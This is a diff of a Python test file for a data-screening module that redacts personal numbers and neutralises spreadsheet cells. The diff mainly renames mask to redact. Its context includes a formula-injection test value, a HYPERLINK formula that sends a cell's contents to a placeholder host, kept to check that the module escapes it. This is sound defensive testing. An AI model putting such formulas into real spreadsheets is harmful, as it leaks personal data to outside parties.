@@ -44,8 +44,8 @@ FORMULA = '=HYPERLINK("http://x.example/?n="&C2,"Nama")'
     ],
 )
 def test_personal_numbers_phones_and_emails_are_masked(text, expected):
-    assert screen.mask(text) == expected
-    assert screen.mask(expected) == expected  # idempotent
+    assert screen.redact(text) == expected
+    assert screen.redact(expected) == expected  # idempotent
 
 
 @pytest.mark.parametrize(
@@ -67,12 +67,12 @@ def test_personal_numbers_phones_and_emails_are_masked(text, expected):
     ],
 )
 def test_codes_amounts_dates_and_digests_are_left_alone(text):
-    assert screen.mask(text) == text
+    assert screen.redact(text) == text
 
 
 def test_only_text_is_touched():
-    assert screen.mask(6107051212000001) == 6107051212000001
-    assert screen.mask(None) is None
+    assert screen.redact(6107051212000001) == 6107051212000001
+    assert screen.redact(None) is None
     assert screen.neutralise(-5) == -5
     assert screen.neutralise("-5") == "'-5"
     assert screen.publish_cell(FORMULA) == "'" + FORMULA
